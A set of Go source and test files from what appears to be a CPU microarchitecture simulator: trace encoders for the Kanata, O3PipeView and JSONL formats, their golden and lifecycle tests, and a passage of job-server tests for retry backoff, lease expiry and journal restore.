	switch ev.Stage {
	case cpu.TraceDispatch:
		r.dispatch = ev.Cycle + 1
	case cpu.TraceIssue:
		r.issue = ev.Cycle + 1
	case cpu.TraceComplete:
		r.complete = ev.Cycle + 1
	case cpu.TraceCommit, cpu.TracePseudoRetire:
		o.emit(ev.Seq, r, ev.Cycle+1)
	case cpu.TraceSquash:
		o.emit(ev.Seq, r, 0)
	}
}

// emit prints one instruction's full record and forgets it.  retire is in
// the cycle+1 encoding; 0 means squashed.
func (o *O3) emit(seq uint64, r *o3rec, retire uint64) {
	o.printf("O3PipeView:fetch:%d:0x%08x:0:%d:%s\n", tick(r.fetch), r.pc, seq, r.disasm)
	o.printf("O3PipeView:decode:%d\n", tick(r.dispatch))
	o.printf("O3PipeView:rename:%d\n", tick(r.dispatch))
	o.printf("O3PipeView:dispatch:%d\n", tick(r.dispatch))
	o.printf("O3PipeView:issue:%d\n", tick(r.issue))
	o.printf("O3PipeView:complete:%d\n", tick(r.complete))
	o.printf("O3PipeView:retire:%d:store:0\n", tick(retire))
	delete(o.recs, seq)
}

// Close drains instructions still in flight (fetched but never retired or
// squashed before the run ended) in fetch order, then flushes.
func (o *O3) Close() error {
	slices.Sort(o.order)
	for _, seq := range o.order {
		if r := o.recs[seq]; r != nil {
			o.emit(seq, r, 0)
		}
	}
	o.order = nil
	if o.err != nil {
		return o.err
	}
	return o.w.Flush()
}
