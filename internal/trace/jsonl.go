package trace

import (
	"bufio"
	"encoding/json"
	"fmt"
	"io"

	"specrun/internal/cpu"
)

// JSONL writes one JSON object per lifecycle event — the machine-readable
// form for ad hoc analysis (jq, pandas).  Field order is fixed by the
// struct, so output is deterministic and diffable.
type JSONL struct {
	w   *bufio.Writer
	err error
}

// jsonEvent fixes the wire field order.  Episode, reason and wrong_path
// only appear on the events they describe.
type jsonEvent struct {
	Cycle     uint64 `json:"cycle"`
	Stage     string `json:"stage"`
	Seq       uint64 `json:"seq"`
	PC        string `json:"pc"`
	Inst      string `json:"inst"`
	Mode      string `json:"mode"`
	Episode   uint64 `json:"episode,omitempty"`
	Reason    string `json:"reason,omitempty"`
	WrongPath bool   `json:"wrong_path,omitempty"`
}

// NewJSONL returns a JSONL encoder writing to w.
func NewJSONL(w io.Writer) *JSONL {
	return &JSONL{w: bufio.NewWriter(w)}
}

// Event encodes one lifecycle event.  Install as the cpu.SetTracer callback.
func (j *JSONL) Event(ev cpu.TraceEvent) {
	if j.err != nil {
		return
	}
	je := jsonEvent{
		Cycle:     ev.Cycle,
		Stage:     ev.Stage.String(),
		Seq:       ev.Seq,
		PC:        fmt.Sprintf("0x%x", ev.PC),
		Inst:      ev.Inst.String(),
		Mode:      ev.Mode.String(),
		Episode:   ev.Episode,
		WrongPath: ev.WrongPath,
	}
	if ev.Stage == cpu.TraceReplay {
		je.Reason = ev.Reason.String()
	}
	b, err := json.Marshal(je)
	if err != nil {
		j.err = err
		return
	}
	if _, err := j.w.Write(b); err != nil {
		j.err = err
		return
	}
	j.err = j.w.WriteByte('\n')
}

// Close flushes buffered output and reports the first write error.
func (j *JSONL) Close() error {
	if j.err != nil {
		return j.err
	}
	return j.w.Flush()
}
