package trace_test

import (
	"bufio"
	"bytes"
	"encoding/json"
	"flag"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"specrun/internal/asm"
	"specrun/internal/cpu"
	"specrun/internal/runahead"
	"specrun/internal/trace"
)

var update = flag.Bool("update", false, "rewrite golden trace files")

const testBudget = 2_000_000

// goldenKernel is a small deterministic program exercising every lifecycle
// stage the base goldens pin: ALU chains, a loop (branches, a mispredict on
// exit → wrong-path squashes), store-to-load forwarding, and serialized
// instructions (fence → ROB-head replays).
const goldenKernel = `
	.data 0x100000
	buf: .zero 64
	start:
	movi r1, buf
	movi r2, 4
	movi r3, 0
loop:
	st   [r1 + 0], r2
	ld   r4, [r1 + 0]
	add  r3, r3, r4
	fence
	addi r2, r2, -1
	bne  r2, r0, loop
	halt`

// runTraced assembles src, runs it under cfg with enc installed as the
// tracer, and closes the encoder.
func runTraced(t *testing.T, cfg cpu.Config, src string, enc trace.Encoder) *cpu.CPU {
	t.Helper()
	p, err := asm.Parse("t", src)
	if err != nil {
		t.Fatal(err)
	}
	c := cpu.New(cfg, p)
	c.SetTracer(enc.Event)
	if err := c.Run(testBudget); err != nil {
		t.Fatalf("cpu run: %v", err)
	}
	if err := enc.Close(); err != nil {
		t.Fatalf("encoder close: %v", err)
	}
	return c
}

func noRunaheadConfig() cpu.Config {
	cfg := cpu.DefaultConfig()
	cfg.Runahead.Kind = runahead.KindNone
	return cfg
}

// checkGolden compares got against testdata/<name>, rewriting under -update.
func checkGolden(t *testing.T, name string, got []byte) {
	t.Helper()
	path := filepath.Join("testdata", name)
	if *update {
		if err := os.MkdirAll("testdata", 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, got, 0o644); err != nil {
			t.Fatal(err)
		}
		return
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("read golden (run 'go test ./internal/trace -update' to create): %v", err)
	}
	if !bytes.Equal(got, want) {
		t.Fatalf("%s diverged from golden (%d got vs %d want bytes); rerun with -update after intentional changes.\n--- got head ---\n%s",
			name, len(got), len(want), head(got, 20))
	}
}

func head(b []byte, n int) string {
	lines := strings.SplitAfter(string(b), "\n")
	if len(lines) > n {
		lines = lines[:n]
	}
	return strings.Join(lines, "")
}

// The Kanata and O3PipeView renderings of the deterministic kernel are
// pinned byte for byte: any drift in cycle timing, stage mapping or
// formatting shows up as a golden diff.
func TestGoldenKanata(t *testing.T) {
	var buf bytes.Buffer
	runTraced(t, noRunaheadConfig(), goldenKernel, trace.NewKanata(&buf))
	out := buf.Bytes()
	if !bytes.HasPrefix(out, []byte("Kanata\t0004\n")) {
		t.Fatalf("missing Kanata header: %q", head(out, 1))
	}
	checkGolden(t, "kernel.kanata", out)
}

func TestGoldenO3(t *testing.T) {
	var buf bytes.Buffer
	runTraced(t, noRunaheadConfig(), goldenKernel, trace.NewO3(&buf))
	out := buf.Bytes()
	if !bytes.HasPrefix(out, []byte("O3PipeView:fetch:")) {
		t.Fatalf("missing O3PipeView records: %q", head(out, 1))
	}
	checkGolden(t, "kernel.o3", out)
}

// stallSrc stalls on a flushed load with a dependent chain behind it, which
// drives the default config into runahead (episodes > 0).
const stallSrc = `
	.data 0x100000
	x:    .zero 64
	stk:  .zero 512
	start:
	movi r1, x
	movi r9, 2
round:
	clflush [r1 + 0]
	fence
	ld   r3, [r1 + 0]
	addi r4, r3, 1
	addi r5, r4, 1
	addi r6, r5, 1
	addi r9, r9, -1
	bne  r9, r0, round
	halt`

// collector accumulates raw events for structural assertions.
type collector struct{ events []cpu.TraceEvent }

func (c *collector) Event(ev cpu.TraceEvent) { c.events = append(c.events, ev) }
func (c *collector) Close() error            { return nil }

// With runahead on, the trace must carry the runahead annotations: events in
// ModeRunahead with nonzero episode ids, pseudo-retires, and runahead-exit
// squashes (WrongPath=false) — and the TraceCommit stream must align 1:1, in
// order, with the commit hook's records.
func TestRunaheadAnnotations(t *testing.T) {
	var col collector
	var commits []cpu.CommitRecord

	p, err := asm.Parse("t", stallSrc)
	if err != nil {
		t.Fatal(err)
	}
	c := cpu.New(cpu.DefaultConfig(), p)
	c.SetTracer(col.Event)
	c.SetCommitHook(func(r cpu.CommitRecord) { commits = append(commits, r) })
	if err := c.Run(testBudget); err != nil {
		t.Fatal(err)
	}
	if c.Stats().RunaheadEpisodes == 0 {
		t.Fatal("stall program triggered no runahead episode")
	}

	var pseudo, raEvents, exitSquash, wrongPath int
	var traceCommits []cpu.TraceEvent
	for _, ev := range col.events {
		if ev.Mode == cpu.ModeRunahead {
			raEvents++
			if ev.Episode == 0 {
				t.Fatalf("runahead-mode event with episode 0: %+v", ev)
			}
		}
		switch ev.Stage {
		case cpu.TracePseudoRetire:
			pseudo++
			if ev.Mode != cpu.ModeRunahead {
				t.Fatalf("pseudo-retire outside runahead: %+v", ev)
			}
		case cpu.TraceSquash:
			if ev.WrongPath {
				wrongPath++
			} else {
				exitSquash++
				if ev.Mode != cpu.ModeRunahead {
					t.Fatalf("runahead-exit squash not in runahead mode: %+v", ev)
				}
			}
		case cpu.TraceCommit:
			if ev.Mode != cpu.ModeNormal {
				t.Fatalf("architectural commit in runahead mode: %+v", ev)
			}
			traceCommits = append(traceCommits, ev)
		}
	}
	if raEvents == 0 || pseudo == 0 || exitSquash == 0 {
		t.Fatalf("missing runahead annotations: %d runahead events, %d pseudo-retires, %d exit squashes",
			raEvents, pseudo, exitSquash)
	}
	if len(traceCommits) != len(commits) {
		t.Fatalf("%d TraceCommit events vs %d commit records", len(traceCommits), len(commits))
	}
	for i, r := range commits {
		// CommitRecord.Seq is commit order, not the uop seq; PC and opcode
		// identify the instruction.
		ev := traceCommits[i]
		if ev.PC != r.PC || ev.Inst.Op != r.Op {
			t.Fatalf("commit %d: trace (pc %#x %v) vs record (pc %#x %v)",
				i, ev.PC, ev.Inst.Op, r.PC, r.Op)
		}
	}
}

// Per-uop stage ordering: fetch precedes dispatch precedes issue precedes
// complete precedes the terminal event, and every fetched uop reaches
// exactly one terminal event (the kernel runs to halt, so nothing is left
// in flight).
func TestLifecycleOrdering(t *testing.T) {
	var col collector
	runTraced(t, cpu.DefaultConfig(), goldenKernel, &col)

	type life struct {
		fetch, dispatch, issue, complete int
		terminal                         int
		last                             cpu.TraceStage
	}
	seen := map[uint64]*life{}
	order := map[cpu.TraceStage]int{
		cpu.TraceFetch: 0, cpu.TraceDispatch: 1, cpu.TraceIssue: 2,
		cpu.TraceReplay: 2, cpu.TraceComplete: 3,
		cpu.TraceCommit: 4, cpu.TracePseudoRetire: 4, cpu.TraceSquash: 4,
	}
	prevCycle := uint64(0)
	for _, ev := range col.events {
		if ev.Cycle < prevCycle {
			t.Fatalf("events not in cycle order: %d after %d", ev.Cycle, prevCycle)
		}
		prevCycle = ev.Cycle
		l := seen[ev.Seq]
		if l == nil {
			if ev.Stage != cpu.TraceFetch {
				t.Fatalf("seq %d first event is %s, want fetch", ev.Seq, ev.Stage)
			}
			seen[ev.Seq] = &life{fetch: 1, last: ev.Stage}
			continue
		}
		if order[ev.Stage] < order[l.last] && !(ev.Stage == cpu.TraceIssue && l.last == cpu.TraceReplay) {
			t.Fatalf("seq %d: %s after %s", ev.Seq, ev.Stage, l.last)
		}
		l.last = ev.Stage
		switch ev.Stage {
		case cpu.TraceDispatch:
			l.dispatch++
		case cpu.TraceIssue:
			l.issue++
		case cpu.TraceComplete:
			l.complete++
		case cpu.TraceCommit, cpu.TracePseudoRetire, cpu.TraceSquash:
			l.terminal++
		}
	}
	if len(seen) == 0 {
		t.Fatal("no uops traced")
	}
	for seq, l := range seen {
		if l.terminal != 1 {
			t.Fatalf("seq %d: %d terminal events, want exactly 1", seq, l.terminal)
		}
		if l.dispatch > 1 || l.issue > 1 || l.complete > 1 {
			t.Fatalf("seq %d: repeated stage (dispatch %d, issue %d, complete %d)",
				seq, l.dispatch, l.issue, l.complete)
		}
	}
}

// Every JSONL line must parse, carry the fixed fields, and tag replay events
// with a reason.
func TestJSONLWellFormed(t *testing.T) {
	var buf bytes.Buffer
	runTraced(t, cpu.DefaultConfig(), goldenKernel, trace.NewJSONL(&buf))

	sc := bufio.NewScanner(&buf)
	lines, replays := 0, 0
	for sc.Scan() {
		lines++
		var m map[string]any
		if err := json.Unmarshal(sc.Bytes(), &m); err != nil {
			t.Fatalf("line %d: %v: %s", lines, err, sc.Text())
		}
		for _, k := range []string{"cycle", "stage", "seq", "pc", "inst", "mode"} {
			if _, ok := m[k]; !ok {
				t.Fatalf("line %d missing %q: %s", lines, k, sc.Text())
			}
		}
		if !strings.HasPrefix(m["pc"].(string), "0x") {
			t.Fatalf("line %d pc not hex: %s", lines, sc.Text())
		}
		if m["stage"] == "replay" {
			replays++
			if r, ok := m["reason"].(string); !ok || r == "" || r == "none" {
				t.Fatalf("replay event without reason: %s", sc.Text())
			}
		}
	}
	if lines == 0 {
		t.Fatal("no JSONL output")
	}
	if replays == 0 {
		t.Fatal("kernel's fences produced no replay events") // fence serializes at ROB head
	}
}

// Window keeps only uops fetched inside [start, end) but follows each
// admitted uop through its whole lifecycle, even past the window edge.
func TestWindow(t *testing.T) {
	var full collector
	runTraced(t, noRunaheadConfig(), goldenKernel, &full)

	// Pick window bounds from the actual fetch cycles (fetch clusters early;
	// a window over the drain tail would be legitimately empty).
	fetchCycle := map[uint64]uint64{}
	var fetches []uint64
	for _, ev := range full.events {
		if ev.Stage == cpu.TraceFetch {
			fetchCycle[ev.Seq] = ev.Cycle
			fetches = append(fetches, ev.Cycle)
		}
	}
	if len(fetches) < 4 {
		t.Fatalf("kernel too small to window: %d fetches", len(fetches))
	}
	start, end := fetches[len(fetches)/4], fetches[3*len(fetches)/4]+1
	if start == 0 {
		start = 1
	}

	var win collector
	runTraced(t, noRunaheadConfig(), goldenKernel, trace.Window(&win, start, end))
	if len(win.events) == 0 {
		t.Fatalf("empty window [%d,%d)", start, end)
	}
	if len(win.events) >= len(full.events) {
		t.Fatal("window filtered nothing")
	}
	got := map[uint64][]cpu.TraceEvent{}
	for _, ev := range win.events {
		fc, ok := fetchCycle[ev.Seq]
		if !ok {
			t.Fatalf("windowed event for unknown seq %d", ev.Seq)
		}
		if fc < start || fc >= end {
			t.Fatalf("seq %d fetched at cycle %d leaked into window [%d,%d)", ev.Seq, fc, start, end)
		}
		got[ev.Seq] = append(got[ev.Seq], ev)
	}
	// Each admitted seq's windowed lifecycle equals its full-run lifecycle.
	want := map[uint64][]cpu.TraceEvent{}
	for _, ev := range full.events {
		fc := fetchCycle[ev.Seq]
		if fc >= start && fc < end {
			want[ev.Seq] = append(want[ev.Seq], ev)
		}
	}
	if len(got) != len(want) {
		t.Fatalf("window admitted %d seqs, want %d", len(got), len(want))
	}
	for seq, evs := range want {
		if fmt.Sprint(got[seq]) != fmt.Sprint(evs) {
			t.Fatalf("seq %d windowed lifecycle differs from full run", seq)
		}
	}
}

// Wrong-path squashes must be flagged: the golden kernel's loop exit
// mispredicts at least once, so the trace carries WrongPath squashes whose
// uops never appear in the commit stream.
func TestWrongPathFlag(t *testing.T) {
	var col collector
	var commits []cpu.CommitRecord
	p, err := asm.Parse("t", goldenKernel)
	if err != nil {
		t.Fatal(err)
	}
	c := cpu.New(noRunaheadConfig(), p)
	c.SetTracer(col.Event)
	c.SetCommitHook(func(r cpu.CommitRecord) { commits = append(commits, r) })
	if err := c.Run(testBudget); err != nil {
		t.Fatal(err)
	}
	// Committed uop seqs come from the trace itself (CommitRecord.Seq is
	// commit order, not uop seq); the record stream pins the count and PCs.
	committed := map[uint64]bool{}
	var traceCommits []cpu.TraceEvent
	for _, ev := range col.events {
		if ev.Stage == cpu.TraceCommit {
			committed[ev.Seq] = true
			traceCommits = append(traceCommits, ev)
		}
	}
	if len(traceCommits) != len(commits) {
		t.Fatalf("%d TraceCommit events vs %d commit records", len(traceCommits), len(commits))
	}
	for i, r := range commits {
		if traceCommits[i].PC != r.PC {
			t.Fatalf("commit %d: trace pc %#x vs record pc %#x", i, traceCommits[i].PC, r.PC)
		}
	}
	wrong := 0
	for _, ev := range col.events {
		if ev.Stage == cpu.TraceSquash && ev.WrongPath {
			wrong++
			if committed[ev.Seq] {
				t.Fatalf("seq %d both committed and wrong-path squashed", ev.Seq)
			}
		}
	}
	if wrong == 0 {
		t.Fatal("no wrong-path squashes traced (loop exit should mispredict)")
	}
}
