package trace

import (
	"bufio"
	"fmt"
	"io"

	"specrun/internal/cpu"
)

// Kanata streams the Kanata 0004 log format consumed by the Konata pipeline
// viewer.  Each uop becomes one instruction row (uid = seq); stage starts are
// emitted as the simulator reaches them, so the file is written strictly in
// cycle order and can be tailed while a long run is still in progress.
//
// Lane-0 stage mnemonics: F fetch, Ds dispatch (decode/rename/dispatch are a
// single cycle in this model), Is issue, Rp replay (re-queued by the
// scheduler; the mouseover label carries the reason), Wb writeback/complete.
// Retire records distinguish architectural retirement, runahead
// pseudo-retirement (labelled, retired-type) and squash (flush-type).
type Kanata struct {
	w       *bufio.Writer
	err     error
	started bool
	cycle   uint64 // last cycle written
	retires uint64 // retire-id counter for R records
}

// NewKanata returns a streaming Kanata encoder writing to w.
func NewKanata(w io.Writer) *Kanata {
	return &Kanata{w: bufio.NewWriter(w)}
}

func (k *Kanata) printf(format string, args ...any) {
	if k.err != nil {
		return
	}
	_, k.err = fmt.Fprintf(k.w, format, args...)
}

// advance emits the header on first use and C records to move the viewer's
// clock to cycle.
func (k *Kanata) advance(cycle uint64) {
	if !k.started {
		k.started = true
		k.printf("Kanata\t0004\n")
		k.printf("C=\t%d\n", cycle)
		k.cycle = cycle
		return
	}
	if cycle > k.cycle {
		k.printf("C\t%d\n", cycle-k.cycle)
		k.cycle = cycle
	}
}

// Event encodes one lifecycle event.  Install as the cpu.SetTracer callback.
func (k *Kanata) Event(ev cpu.TraceEvent) {
	k.advance(ev.Cycle)
	uid := ev.Seq
	switch ev.Stage {
	case cpu.TraceFetch:
		k.printf("I\t%d\t%d\t0\n", uid, uid)
		k.printf("L\t%d\t0\t%d: 0x%x %s\n", uid, ev.Seq, ev.PC, ev.Inst)
		if ev.Mode == cpu.ModeRunahead {
			k.printf("L\t%d\t1\trunahead episode %d\n", uid, ev.Episode)
		}
		k.printf("S\t%d\t0\tF\n", uid)
	case cpu.TraceDispatch:
		k.printf("S\t%d\t0\tDs\n", uid)
	case cpu.TraceIssue:
		k.printf("S\t%d\t0\tIs\n", uid)
	case cpu.TraceReplay:
		k.printf("S\t%d\t0\tRp\n", uid)
		k.printf("L\t%d\t1\treplay: %s\n", uid, ev.Reason)
	case cpu.TraceComplete:
		k.printf("S\t%d\t0\tWb\n", uid)
	case cpu.TraceCommit:
		k.retires++
		k.printf("R\t%d\t%d\t0\n", uid, k.retires)
	case cpu.TracePseudoRetire:
		k.retires++
		k.printf("L\t%d\t1\tpseudo-retire (runahead episode %d)\n", uid, ev.Episode)
		k.printf("R\t%d\t%d\t0\n", uid, k.retires)
	case cpu.TraceSquash:
		if ev.WrongPath {
			k.printf("L\t%d\t1\tsquash: wrong path\n", uid)
		} else {
			k.printf("L\t%d\t1\tsquash: runahead exit (episode %d)\n", uid, ev.Episode)
		}
		k.printf("R\t%d\t0\t1\n", uid)
	}
}

// Close flushes buffered output and reports the first write error.
func (k *Kanata) Close() error {
	if k.err != nil {
		return k.err
	}
	return k.w.Flush()
}
