// Package trace renders the CPU model's per-uop lifecycle event stream
// (cpu.SetTracer) into viewer formats: the Kanata log the Konata pipeline
// viewer consumes, the gem5 O3PipeView text format, and a JSONL form for ad
// hoc tooling.  Encoders are streaming — install Encoder.Event as the
// machine's tracer, run, then Close — and deterministic: the same simulation
// produces byte-identical output, which the golden tests pin.
package trace

import (
	"io"

	"specrun/internal/cpu"
)

// Encoder consumes lifecycle events and writes one rendering.  Event is the
// cpu.SetTracer callback; Close flushes buffered output (and, for formats
// that render per instruction, drains uops still in flight at the end of the
// run) and reports the first write error.
type Encoder interface {
	Event(cpu.TraceEvent)
	Close() error
}

// NewEncoder builds the encoder for a format name ("kanata", "o3" or
// "jsonl"); ok is false for an unknown name.
func NewEncoder(format string, w io.Writer) (enc Encoder, ok bool) {
	switch format {
	case "kanata":
		return NewKanata(w), true
	case "o3":
		return NewO3(w), true
	case "jsonl":
		return NewJSONL(w), true
	}
	return nil, false
}

// window filters an event stream down to the uops fetched inside a cycle
// interval.  Filtering on the *fetch* cycle keeps lifecycles whole: a uop
// fetched in the window is followed to its retirement or squash even past
// the window's end, and a uop fetched before the window never appears at all
// (encoders would otherwise see stage events for instructions they were
// never introduced to).
type window struct {
	inner      Encoder
	start, end uint64 // fetch-cycle interval [start, end); end 0 = unbounded
	admitted   map[uint64]struct{}
}

// Window wraps enc so only uops fetched in cycles [start, end) are encoded
// (end 0 = no upper bound).  A zero window (0, 0) passes everything through.
func Window(enc Encoder, start, end uint64) Encoder {
	if start == 0 && end == 0 {
		return enc
	}
	return &window{inner: enc, start: start, end: end, admitted: make(map[uint64]struct{})}
}

func (f *window) Event(ev cpu.TraceEvent) {
	if ev.Stage == cpu.TraceFetch {
		if ev.Cycle < f.start || (f.end != 0 && ev.Cycle >= f.end) {
			return
		}
		f.admitted[ev.Seq] = struct{}{}
		f.inner.Event(ev)
		return
	}
	if _, ok := f.admitted[ev.Seq]; !ok {
		return
	}
	f.inner.Event(ev)
	switch ev.Stage {
	case cpu.TraceCommit, cpu.TracePseudoRetire, cpu.TraceSquash:
		delete(f.admitted, ev.Seq) // lifecycle over; seqs are never reused
	}
}

func (f *window) Close() error { return f.inner.Close() }
