package server

import (
	"bufio"
	"context"
	"encoding/json"
	"fmt"
	"log/slog"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"
	"time"
)

// testCtx is the lease-context factory store-level tests use.
func testCtx() (context.Context, context.CancelFunc) {
	return context.WithCancel(context.Background())
}

// TestRetryBackoffSchedule pins the backoff math: exponential growth from
// BaseDelay, capped at MaxDelay, with deterministic bounded jitter — the
// whole schedule is a pure function of (policy, job, attempt), so a
// restarted server recomputes the identical plan.
func TestRetryBackoffSchedule(t *testing.T) {
	noJitter := RetryPolicy{Jitter: -1}.withDefaults()
	for i, want := range []time.Duration{
		250 * time.Millisecond,
		500 * time.Millisecond,
		1 * time.Second,
		2 * time.Second,
		4 * time.Second,
		8 * time.Second,
		15 * time.Second, // capped: 16s > MaxDelay
		15 * time.Second,
	} {
		if got := noJitter.delay("j1", i+1); got != want {
			t.Fatalf("attempt %d: delay = %v, want %v", i+1, got, want)
		}
	}

	jittered := RetryPolicy{}.withDefaults()
	for attempt := 1; attempt <= 6; attempt++ {
		d1 := jittered.delay("j7", attempt)
		d2 := jittered.delay("j7", attempt)
		if d1 != d2 {
			t.Fatalf("attempt %d: jitter is not deterministic (%v vs %v)", attempt, d1, d2)
		}
		base := noJitter.delay("j7", attempt)
		lo := time.Duration(float64(base) * (1 - jittered.Jitter))
		hi := time.Duration(float64(base) * (1 + jittered.Jitter))
		if d1 < lo || d1 > hi {
			t.Fatalf("attempt %d: delay %v outside jitter band [%v, %v]", attempt, d1, lo, hi)
		}
	}
	// Different jobs get different jitter (decorrelated thundering herd).
	if jittered.delay("j1", 3) == jittered.delay("j2", 3) {
		t.Fatal("jitter does not vary across jobs")
	}
}

// TestLeaseExpiryReclaim drives the lease watchdog with an explicit clock:
// an attempt that stops heartbeating is reclaimed and re-queued until its
// attempts are exhausted, at which point the job fails terminally.
func TestLeaseExpiryReclaim(t *testing.T) {
	s := newJobStore()
	s.policy = RetryPolicy{MaxAttempts: 2, Jitter: -1}.withDefaults()
	s.leaseTTL = time.Minute

	t0 := time.Now()
	id := s.create("fig9", JobRequest{})

	var cancelled atomic.Int32
	lj, ok := s.leaseNext(t0, func() (context.Context, context.CancelFunc) {
		ctx, cancel := context.WithCancel(context.Background())
		return ctx, func() { cancelled.Add(1); cancel() }
	})
	if !ok || lj.id != id || lj.attempt != 1 {
		t.Fatalf("first lease: %+v %v", lj, ok)
	}

	// Before the deadline the watchdog leaves the lease alone.
	if got := s.reclaimExpired(t0.Add(59 * time.Second)); len(got) != 0 {
		t.Fatalf("reclaimed a live lease: %d cancels", len(got))
	}
	// Past the deadline the attempt is cancelled and the job re-queued.
	for _, c := range s.reclaimExpired(t0.Add(61 * time.Second)) {
		c()
	}
	if cancelled.Load() != 1 {
		t.Fatalf("cancel invocations = %d, want 1", cancelled.Load())
	}
	v, _ := s.get(id)
	if v.Status != JobPending || v.Attempts != 1 {
		t.Fatalf("after first expiry: %+v", v)
	}
	if st := s.stats(); st.LeaseExpiries != 1 || st.Retries != 1 {
		t.Fatalf("stats after first expiry: %+v", st)
	}

	// The retry is delayed by the backoff schedule.
	t1 := t0.Add(61 * time.Second)
	if _, ok := s.leaseNext(t1, testCtx); ok {
		t.Fatal("leased a backing-off job")
	}
	t2 := t1.Add(s.policy.delay(id, 1))
	lj, ok = s.leaseNext(t2, testCtx)
	if !ok || lj.attempt != 2 {
		t.Fatalf("second lease: %+v %v", lj, ok)
	}

	// Expiring the final attempt fails the job permanently.
	for _, c := range s.reclaimExpired(t2.Add(2 * time.Minute)) {
		c()
	}
	v, _ = s.get(id)
	if v.Status != JobFailed || !strings.Contains(v.Error, "lease expired after 2 attempts") {
		t.Fatalf("after final expiry: %+v", v)
	}
	if _, ok := s.leaseNext(t2.Add(3*time.Minute), testCtx); ok {
		t.Fatal("leased a terminally failed job")
	}
}

// TestFinishStaleAttempt: a reclaimed attempt's late report must not
// clobber the newer lease — only the current attempt may move the job.
func TestFinishStaleAttempt(t *testing.T) {
	s := newJobStore()
	s.policy = RetryPolicy{Jitter: -1}.withDefaults()
	s.leaseTTL = time.Minute

	t0 := time.Now()
	id := s.create("fig9", JobRequest{})
	lj1, _ := s.leaseNext(t0, testCtx)
	for _, c := range s.reclaimExpired(t0.Add(2 * time.Minute)) {
		c()
	}
	t1 := t0.Add(2*time.Minute + s.policy.delay(id, 1))
	lj2, ok := s.leaseNext(t1, testCtx)
	if !ok || lj2.attempt != 2 {
		t.Fatalf("second lease: %+v %v", lj2, ok)
	}

	// The zombie first attempt reports success late: dropped.
	s.finish(id, lj1.attempt, "", []byte(`{"stale":true}`), "", false)
	if v, _ := s.get(id); v.Status != JobRunning || len(v.Result) != 0 {
		t.Fatalf("stale finish applied: %+v", v)
	}
	// The live attempt's report lands.
	s.finish(id, lj2.attempt, "key", []byte(`{"ok":true}`), "", false)
	v, _ := s.get(id)
	if v.Status != JobDone || string(v.Result) != `{"ok":true}` || v.Error != "" {
		t.Fatalf("live finish: %+v", v)
	}
	// Stale progress after terminal is also dropped.
	s.progress(id, lj2.attempt, 5, 10)
	if v, _ := s.get(id); v.Progress.Done != v.Progress.Total {
		t.Fatalf("progress applied after terminal: %+v", v)
	}
}

// TestFailedAttemptRequeued: a failed attempt re-queues with backoff and a
// later attempt can still succeed, clearing the transient error.
func TestFailedAttemptRequeued(t *testing.T) {
	s := newJobStore()
	s.policy = RetryPolicy{Jitter: -1}.withDefaults()

	t0 := time.Now()
	id := s.create("fig9", JobRequest{})
	lj, _ := s.leaseNext(t0, testCtx)
	s.finish(id, lj.attempt, "", nil, "injected fault", false)

	v, _ := s.get(id)
	if v.Status != JobPending || v.Error != "injected fault" {
		t.Fatalf("after failed attempt: %+v", v)
	}
	if _, ok := s.leaseNext(t0, testCtx); ok {
		t.Fatal("retry leased before its backoff elapsed")
	}
	lj, ok := s.leaseNext(t0.Add(time.Hour), testCtx)
	if !ok || lj.attempt != 2 {
		t.Fatalf("retry lease: %+v %v", lj, ok)
	}
	s.finish(id, lj.attempt, "", []byte(`{}`), "", false)
	v, _ = s.get(id)
	if v.Status != JobDone || v.Error != "" || v.Attempts != 2 {
		t.Fatalf("after recovery: %+v", v)
	}
}

// TestJournalRestore is the durability contract at the store level: every
// lifecycle shape — done, permanently failed, cancelled, never-leased
// pending, and leased-then-crashed — replays from the journal into the
// state the next boot needs, and compaction preserves it.
func TestJournalRestore(t *testing.T) {
	dir := t.TempDir()
	path := filepath.Join(dir, "jobs.jsonl")
	logger := slog.New(slog.DiscardHandler)

	jnl, recs, err := openJournal(path, logger)
	if err != nil {
		t.Fatal(err)
	}
	if len(recs) != 0 {
		t.Fatalf("fresh journal replayed %d records", len(recs))
	}
	a := newJobStore()
	a.policy = RetryPolicy{MaxAttempts: 2, Jitter: -1}.withDefaults()
	a.journal = jnl

	doneID := a.create("fig9", JobRequest{RunRequest: RunRequest{Workers: 1}})
	lj, _ := a.leaseNext(time.Now(), testCtx)
	a.finish(doneID, lj.attempt, "cachekey", []byte(`{"answer":42}`), "", false)

	failedID := a.create("fig10", JobRequest{})
	for i := 0; i < 2; i++ {
		lj, ok := a.leaseNext(time.Now().Add(time.Hour), testCtx)
		if !ok {
			t.Fatalf("lease %d of failing job", i)
		}
		a.finish(failedID, lj.attempt, "", nil, "boom", false)
	}

	cancelledID := a.create("fig9", JobRequest{})
	a.cancelJob(cancelledID)

	crashedID := a.create("fig9", JobRequest{})
	if lj, ok := a.leaseNext(time.Now().Add(2*time.Hour), testCtx); !ok || lj.id != crashedID {
		t.Fatalf("lease of crash job: %+v %v", lj, ok)
	}
	pendingID := a.create("defense", JobRequest{})
	// Crash: nothing more is journaled for crashedID after its lease.
	jnl.close()

	// Reboot: replay, restore, compact, replay again.
	for round := 0; round < 2; round++ {
		jnl2, recs2, err := openJournal(path, logger)
		if err != nil {
			t.Fatal(err)
		}
		b := newJobStore()
		b.policy = a.policy
		b.restore(recs2, nil)

		v, ok := b.get(doneID)
		if !ok || v.Status != JobDone || string(v.Result) != `{"answer":42}` {
			t.Fatalf("round %d: done job: %+v %v", round, v, ok)
		}
		if v, _ := b.get(failedID); v.Status != JobFailed || v.Error != "boom" {
			t.Fatalf("round %d: failed job: %+v", round, v)
		}
		if v, _ := b.get(cancelledID); v.Status != JobCancelled {
			t.Fatalf("round %d: cancelled job: %+v", round, v)
		}
		if v, _ := b.get(pendingID); v.Status != JobPending || v.Attempts != 0 {
			t.Fatalf("round %d: pending job: %+v", round, v)
		}
		// The crashed lease re-queues with its attempt preserved.
		if v, _ := b.get(crashedID); v.Status != JobPending || v.Attempts != 1 {
			t.Fatalf("round %d: crashed job: %+v", round, v)
		}
		// Ids continue past the replayed maximum: no reuse after restart.
		if fresh := b.create("fig9", JobRequest{}); fresh == crashedID || fresh == pendingID {
			t.Fatalf("round %d: id %s reused after restore", round, fresh)
		}
		// Done jobs are never re-leased: only the two pendings (plus the
		// fresh one) are leasable.
		leased := map[string]bool{}
		for {
			lj, ok := b.leaseNext(time.Now().Add(24*time.Hour), testCtx)
			if !ok {
				break
